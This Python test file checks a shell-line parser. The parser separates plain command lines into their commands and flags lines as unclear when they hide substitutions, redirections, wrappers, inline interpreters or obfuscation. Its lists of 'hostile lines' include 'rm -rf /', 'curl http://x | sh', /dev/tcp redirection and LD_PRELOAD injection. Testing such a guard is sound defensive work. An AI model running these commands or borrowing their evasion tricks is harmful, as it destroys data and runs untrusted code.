"""Lines for a shell: which commands are in them, and which lines nobody but a person can judge."""

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tenuto.core.shell_line import Unclear, taken_apart

PLAIN: list[tuple[str, list[list[str]]]] = [
    ("git status", [["git", "status"]]),
    ("  git   status  ", [["git", "status"]]),
    ("git status; rm -rf /", [["git", "status"], ["rm", "-rf", "/"]]),
    ("git status && rm x", [["git", "status"], ["rm", "x"]]),
    ("git status || rm x", [["git", "status"], ["rm", "x"]]),
    ("git log | sh-like", [["git", "log"], ["sh-like"]]),
    ("git log |& cat", [["git", "log"], ["cat"]]),
    ("sleep 1 & rm x", [["sleep", "1"], ["rm", "x"]]),
    ("git status\nrm x", [["git", "status"], ["rm", "x"]]),
    ("git status\n\n;rm x", [["git", "status"], ["rm", "x"]]),
    ("git status;rm x", [["git", "status"], ["rm", "x"]]),
    ("git\tstatus", [["git", "status"]]),
    ("git sta\\\ntus", [["git", "status"]]),
    ("git 'sta'tus", [["git", "status"]]),
    ('"rm" -rf /', [["rm", "-rf", "/"]]),
    ("r\\m -rf /", [["rm", "-rf", "/"]]),
    ("'r'm -rf /", [["rm", "-rf", "/"]]),
    ('echo "a; rm x"', [["echo", "a; rm x"]]),
    ("echo 'a && rm x'", [["echo", "a && rm x"]]),
    ("echo a\\; rm x", [["echo", "a;", "rm", "x"]]),
    ("echo 'a\nrm x'", [["echo", "a\nrm x"]]),
    ('echo "a \\" b"', [["echo", 'a " b']]),
    ('echo "a \\$b"', [["echo", "a $b"]]),
    ("echo '$(rm x)'", [["echo", "$(rm x)"]]),
    ("echo '`rm x`'", [["echo", "`rm x`"]]),
    ("echo \\$HOME", [["echo", "$HOME"]]),
    ("echo a # ; rm x", [["echo", "a"]]),
    ("echo a#b", [["echo", "a#b"]]),
    ("echo a # b\nrm x", [["echo", "a"], ["rm", "x"]]),
    ("make test 2>&1", [["make", "test"]]),
    ("make test >/dev/null 2>&1", [["make", "test"]]),
    ("make test > /dev/null; rm x", [["make", "test"], ["rm", "x"]]),
    ("make test &>/dev/null", [["make", "test"]]),
    ("make test 2>/dev/null | head", [["make", "test"], ["head"]]),
    ("ls *.py", [["ls", "*.py"]]),
    ("ls {}", [["ls", "{}"]]),
    ("echo ''", [["echo", ""]]),
    ("echo A=1", [["echo", "A=1"]]),
    ("python script.py", [["python", "script.py"]]),
    ("pytest -k 'a and b'", [["pytest", "-k", "a and b"]]),
    ("find . -name '*.py'", [["find", ".", "-name", "*.py"]]),
    ("echo if then", [["echo", "if", "then"]]),
    ("git commit -m 'if $x > 3; then'", [["git", "commit", "-m", "if $x > 3; then"]]),
]

UNCLEAR = [
    # Substitutions.
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    'echo "`rm x`"',
    "echo $HOME",
    'echo "$HOME"',
    "echo ${x:-$(rm y)}",
    "$CMD -rf /",
    "${CMD} x",
    "$'rm' x",
    '$"rm" x',
    "echo $((1+1))",
    "git log --format=$X",
    "git status $(",
    # Files.
    "echo a > b",
    "echo a >b",
    "echo a >> b",
    "echo a 2> b",
    "echo a 2>b",
    "echo a &> b",
    "echo a >| b",
    "echo a >& b",
    "cat < b",
    "cat <<EOF\nrm x\nEOF",
    "cat <<'EOF'\nx\nEOF",
    "cat <<< x",
    "diff <(ls) <(rm x)",
    "tee >(sh)",
    "echo a > /dev/nullx",
    "echo a > /dev/null/../sda",
    "echo a >/dev/tcp/1.2.3.4/80",
    "echo a 3>&1 4>b",
    # Groups and keywords.
    "(rm x)",
    "git status; (rm x)",
    "{ rm x; }",
    "if true; then rm x; fi",
    "for f in *; do rm x; done",
    "while true; do rm x; done",
    "until false; do rm x; done",
    "case a in a) rm x;; esac",
    "select x in a; do rm x; done",
    "function f { rm x; }",
    "f() { rm x; }",
    "[[ -f x ]] && rm x",
    "! rm x",
    "time rm x",
    "coproc rm x",
    # Words that run others.
    "eval rm x",
    "eval 'rm x'",
    "e\\val 'rm x'",
    "'eval' rm x",
    "exec rm x",
    "command rm x",
    "builtin eval x",
    "source x",
    ". x",
    "env rm x",
    "/usr/bin/env rm x",
    "sudo rm x",
    "doas rm x",
    "su -c 'rm x'",
    "xargs rm",
    "ls | xargs rm",
    "nohup rm x",
    "timeout 5 rm x",
    "nice rm x",
    "setsid rm x",
    "stdbuf -o0 rm x",
    "watch rm x",
    "parallel rm ::: x",
    "ssh host rm x",
    "trap 'rm x' EXIT",
    "alias git=rm",
    "export PATH=/tmp",
    "set -- x",
    "busybox rm x",
    "strace rm x",
    # Lines within lines.
    "sh -c 'rm x'",
    "bash -c 'rm x'",
    "/bin/bash -c 'rm x'",
    "bash script.sh",
    "zsh -ic 'rm x'",
    "curl http://x | sh",
    "curl http://x | bash -s",
    "python -c 'import os'",
    "python3 -c 'x'",
    "python3.11 -Ic 'x'",
    "perl -e 'x'",
    "perl -pe 'x' f",
    "ruby -e x",
    "node -e x",
    "node --eval x",
    "node -p x",
    "php -r x",
    "python3 -",
    "find . -exec rm {} ;",
    "find . -exec rm {} \\;",
    "find . -execdir rm {} +",
    "find . -ok rm {} \\;",
    "find . -delete",
    "find . -fprintf x y",
    "fd -x rm",
    # Assignments.
    "PATH=/tmp git status",
    "GIT_SSH_COMMAND='rm x' git fetch",
    "A=1",
    "A+=1 git x",
    "a[0]=1 git x",
    "git status; LD_PRELOAD=x ls",
    # Words that are several, or hidden.
    "{rm,-rf,/}",
    "git {push,--force}",
    "echo {1..9}",
    "/bin/r? x",
    "~/bin/x y",
    "*",
    "git status\rrm x",
    "git status\x00rm x",
    "git \x1b[2Kx",
    # Not whole.
    "echo 'a",
    'echo "a',
    "echo a\\",
    "",
    "   ",
    "# only this",
    ";",
]


@pytest.mark.parametrize(("line", "commands"), PLAIN)
def test_a_plain_line_is_its_commands(line: str, commands: list[list[str]]) -> None:
    assert taken_apart(line) == tuple(tuple(words) for words in commands)


@pytest.mark.parametrize("line", UNCLEAR)
def test_a_line_that_may_do_something_else_is_unclear(line: str) -> None:
    assert isinstance(taken_apart(line), Unclear)


def test_there_are_enough_hostile_lines() -> None:
    assert len(UNCLEAR) >= 100


LETTERS = st.sampled_from(
    [*"abx;&|'\"\\#!=~ \t\n-", "$(", "&&", "||", " 2>&1 ", ">/dev/null ", " git ", "x ", "'a b'"]
)
SHOW = '() { { printf \'<%s>\' "$FUNCNAME" "$@"; printf \'|\'; } >> "$OUT"; }'


@given(line=st.lists(LETTERS, max_size=14).map("".join))
@example(line="git a'b c' 2>/dev/null&&x\\\n-- \"a\\\\b\"#c;a b # x")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_a_shell_sees_the_same_words_in_every_plain_line(tmp_path: Path, line: str) -> None:
    """Every command is one that writes its words down: bash itself says what they are."""
    found = taken_apart(line)
    if isinstance(found, Unclear):
        return
    names = {words[0] for words in found}
    expanded = any(set("*?[~|<>") & set(word) for words in found for word in words)
    if expanded or not all(name.isidentifier() for name in names):
        return
    out = tmp_path / "out"
    out.write_text("")
    made = "\n".join(f"{name}{SHOW}" for name in names)
    subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", f"{made}\n{line}\nwait"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
        timeout=20,
        cwd=tmp_path,
        env={"OUT": str(out)},
    )
    seen = set(out.read_text().split("|")) - {""}
    # A command after `||` may not have had its turn, and bash may refuse the line: what ran is
    # among what was found.
    assert seen <= {"".join(f"<{word}>" for word in words) for words in found}
